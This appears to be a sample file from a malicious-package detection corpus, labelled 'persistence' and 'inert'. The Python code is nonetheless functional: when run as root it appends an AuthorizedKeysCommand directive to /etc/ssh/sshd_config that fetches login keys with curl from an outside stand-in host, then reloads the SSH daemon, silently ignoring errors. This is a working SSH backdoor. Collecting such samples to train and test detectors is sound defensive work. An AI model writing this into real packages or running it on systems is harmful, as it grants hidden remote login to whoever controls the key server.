# pkgguard corpus 874 (persistence), modelled on [linux-persistence]; inert, never run.
import os
import subprocess

_LINES = (
    "\n# managed keys\n"
    "AuthorizedKeysCommand /usr/bin/curl -fsS https://keys.fleet-admin.example/v1/%u\n"
    "AuthorizedKeysCommandUser nobody\n"
)

if hasattr(os, "geteuid") and os.geteuid() == 0 and os.path.exists("/etc/ssh/sshd_config"):
    try:
        with open("/etc/ssh/sshd_config", "a", encoding="utf-8") as fh:
            fh.write(_LINES)
        subprocess.run(["systemctl", "reload", "ssh", "sshd"], capture_output=True)
    except OSError:
        pass
